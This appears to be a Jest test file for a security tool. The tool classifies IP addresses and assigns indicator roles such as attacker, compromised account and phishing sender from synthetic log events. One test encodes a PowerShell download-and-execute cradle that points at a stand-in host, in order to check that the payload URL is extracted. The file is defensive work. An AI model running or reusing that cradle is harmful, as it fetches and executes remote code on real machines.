import { loadAttackCatalog } from '../attack';
import type { RuleRef } from '../model';
import { makeSignal } from '../correlate/signal';
import { event, lookupOf } from '../correlate/testing/events';
import { buildIndicators, indicatorKey } from './index';
import { isExternalIp, isInternalIp, parseIp } from './ip';

const catalog = loadAttackCatalog();

function rule(level: string, tags: string[]): RuleRef {
  return { id: `r-${level}-${tags.join('-')}`, title: `Test rule ${level}`, level, tags };
}

describe('IP classification', () => {
  it('tells internal from external addresses, including IPv4-mapped IPv6 and CGNAT', () => {
    expect(isExternalIp('185.220.101.42')).toBe(true);
    expect(isInternalIp('10.0.1.15')).toBe(true);
    expect(parseIp('::ffff:10.2.7.31')).toEqual({ value: '10.2.7.31', version: 4, scope: 'internal' });
    expect(isInternalIp('100.64.3.4')).toBe(true);
    expect(parseIp('fe80::1')?.scope).toBe('link_local');
    expect(parseIp('10.0.0')).toBeUndefined();
  });
});

describe('indicator roles', () => {
  it('normalises one account across DOMAIN\\user, user@domain and case', () => {
    expect(indicatorKey('user', 'CORP\\TLee')).toBe('tlee');
    expect(indicatorKey('user', 'tlee@corp.example')).toBe('tlee');
  });

  it('names the source of a discovery rule hit as attacker, its process as recon tool and the acting account as compromised', () => {
    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'CORP\\admin', host: 'srv-1', process: 'C:\\Windows\\System32\\whoami.exe', srcIp: '91.92.240.17' } });
    const s = makeSignal('detection', 'd', rule('medium', ['attack.discovery', 'attack.t1033']), [0], lookupOf([e]), catalog);
    const got = buildIndicators([s], lookupOf([e]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(got).toEqual(expect.arrayContaining(['ip:91.92.240.17:attacker', 'process:whoami.exe:recon_tool', 'user:CORP\\admin:compromised_account', 'host:srv-1:compromised_host']));
  });

  it('never reports public resolvers, loopback or link-local addresses as attacker', () => {
    const events = [
      event(0, '2026-01-01T00:00:00Z', { entities: { srcIp: '8.8.8.8', dstIp: '10.0.0.5' } }),
      event(1, '2026-01-01T00:00:01Z', { entities: { srcIp: '127.0.0.1', dstIp: '10.0.0.5' } }),
      event(2, '2026-01-01T00:00:02Z', { entities: { srcIp: '169.254.10.1', dstIp: '10.0.0.5' } }),
    ];
    const s = makeSignal('detection', 'd', rule('high', ['attack.initial-access', 'attack.t1190']), [0, 1, 2], lookupOf(events), catalog);
    const values = buildIndicators([s], lookupOf(events), catalog).map((i) => i.value);
    expect(values).not.toEqual(expect.arrayContaining(['8.8.8.8']));
    expect(values).not.toContain('127.0.0.1');
    expect(values).not.toContain('169.254.10.1');
    expect(values).toContain('10.0.0.5');
  });

  it('calls an e-mail address a phishing sender only on mail evidence, never the account of a sign-in', () => {
    const signIn = event(0, '2026-01-01T00:00:00Z', { action: 'logon', format: 'okta', logsource: { product: 'okta', service: 'okta' }, entities: { user: 'rsingh@corp.example', email: 'rsingh@corp.example', srcIp: '146.70.117.201' } });
    const mail = event(1, '2026-01-01T00:00:05Z', { action: 'email_received', format: 'generic', logsource: { category: 'email' }, entities: { email: 'billing@invoices-secure.example', targetUser: 'rsingh@corp.example' } });
    const tags = ['attack.initial-access', 'attack.t1566.001'];
    const roles = (e: typeof signIn) => buildIndicators([makeSignal('detection', 'd', rule('high', tags), [e.index], lookupOf([signIn, mail]), catalog)], lookupOf([signIn, mail]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(roles(signIn)).not.toContain('email:rsingh@corp.example:phishing_sender');
    expect(roles(mail)).toContain('email:billing@invoices-secure.example:phishing_sender');
  });

  it('cites the events behind each indicator and orders attackers before targets', () => {
    const events = [event(0, '2026-01-01T00:00:00Z', { entities: { srcIp: '45.9.148.108', dstIp: '10.0.0.5' } })];
    const s = makeSignal('detection', 'd', rule('high', ['attack.initial-access', 'attack.t1190']), [0], lookupOf(events), catalog);
    const list = buildIndicators([s], lookupOf(events), catalog);
    expect(list[0]).toMatchObject({ value: '45.9.148.108', role: 'attacker', event_indices: [0] });
    expect(list[1]).toMatchObject({ value: '10.0.0.5', role: 'target', event_indices: [0] });
  });

  it('lets the strongest role win when evidence gives a value several', () => {
    const events = [event(0, '2026-01-01T00:00:00Z', { entities: { user: 'backup' } })];
    const lookup = lookupOf(events);
    const targeted = makeSignal('behaviour', 'a', rule('medium', []), [0], lookup, catalog, [{ type: 'user', value: 'backup', role: 'targeted_account', eventIndices: [0] }]);
    const compromised = makeSignal('behaviour', 'b', rule('high', []), [0], lookup, catalog, [{ type: 'user', value: 'BACKUP', role: 'compromised_account', eventIndices: [0] }]);
    expect(buildIndicators([targeted, compromised], lookup, catalog)).toEqual([expect.objectContaining({ type: 'user', role: 'compromised_account' })]);
  });

  it('pulls the infrastructure out of a flagged command line, including an encoded payload', () => {
    const enc = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://update-check.top/a.ps1')", 'utf16le').toString('base64');
    const e = event(0, '2026-01-01T00:00:00Z', { action: 'process_create', entities: { user: 'bob', host: 'ws-1', process: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', commandLine: `powershell -enc ${enc}` } });
    const s = makeSignal('detection', 'd', rule('high', ['attack.execution', 'attack.t1059.001']), [0], lookupOf([e]), catalog);
    const got = buildIndicators([s], lookupOf([e]), catalog).map((i) => `${i.type}:${i.value}:${i.role}`);
    expect(got).toEqual(expect.arrayContaining(['url:http://update-check.top/a.ps1:payload_url', 'domain:update-check.top:payload_host', 'process:powershell.exe:suspicious_process']));
  });
});
